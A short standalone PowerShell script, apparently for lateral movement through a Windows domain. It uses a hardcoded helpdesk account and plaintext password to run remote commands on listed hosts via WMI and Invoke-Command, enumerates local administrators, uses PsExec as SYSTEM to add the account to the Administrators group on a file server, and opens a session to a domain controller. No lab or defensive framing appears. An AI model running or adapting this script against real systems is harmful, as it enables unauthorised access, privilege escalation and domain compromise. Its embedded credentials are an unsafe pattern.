$targets = Get-Content C:\Users\Public\hosts.txt
$user = 'CORP\helpdesk_adm'
$pass = ConvertTo-SecureString 'Summer2023!' -AsPlainText -Force
$cred = New-Object System.Management.Automation.PSCredential($user, $pass)

foreach ($t in $targets) {
    Invoke-WmiMethod -ComputerName $t -Credential $cred -Class Win32_Process -Name Create -ArgumentList 'cmd.exe /c whoami > C:\Windows\Temp\o.txt'
    Invoke-Command -ComputerName $t -Credential $cred -ScriptBlock { Get-LocalGroupMember -Group Administrators }
}

& C:\Tools\PsExec64.exe \\FS02 -accepteula -s -u CORP\helpdesk_adm -p 'Summer2023!' cmd.exe /c "net localgroup administrators CORP\helpdesk_adm /add"
Enter-PSSession -ComputerName DC01 -Credential $cred
